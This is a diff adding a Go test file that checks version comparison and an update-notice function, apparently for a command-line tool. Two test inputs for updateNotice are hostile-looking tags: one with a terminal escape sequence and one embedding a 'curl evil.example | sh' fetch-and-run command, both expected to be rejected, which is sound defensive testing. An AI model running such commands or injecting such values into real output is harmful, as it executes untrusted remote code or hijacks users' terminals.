@@ -0,0 +1,41 @@
+package main
+
+import "testing"
+
+func TestCompareVersions(t *testing.T) {
+	for _, c := range []struct {
+		a, b string
+		want int
+	}{
+		{"v1.4.0", "v1.4.0", 0},
+		{"v1.10.0", "v1.9.3", 1},
+		{"1.4", "v1.4.0", 0},
+		{"v1.4.0", "v1.4.1", -1},
+		{"v2", "v1.99.99", 1},
+	} {
+		if got := compareVersions(c.a, c.b); got != c.want {
+			t.Errorf("compareVersions(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
+		}
+	}
+}
+
+func TestUpdateNotice(t *testing.T) {
+	for _, c := range []struct {
+		tag  string
+		want bool
+	}{
+		{"v1.5.0", true},
+		{"1.5", true},
+		{"v2.0.0-rc.1", true},
+		{"v1.4.0", false},
+		{"v1.3.9", false},
+		{"v9.0.0\x1b]0;pwned\x07", false},
+		{"v9.0.0 run curl evil.example | sh", false},
+		{"latest", false},
+		{"", false},
+	} {
+		if got := updateNotice(c.tag, "v1.4.0"); (got != "") != c.want {
+			t.Errorf("updateNotice(%q) = %q, want a notice %v", c.tag, got, c.want)
+		}
+	}
+}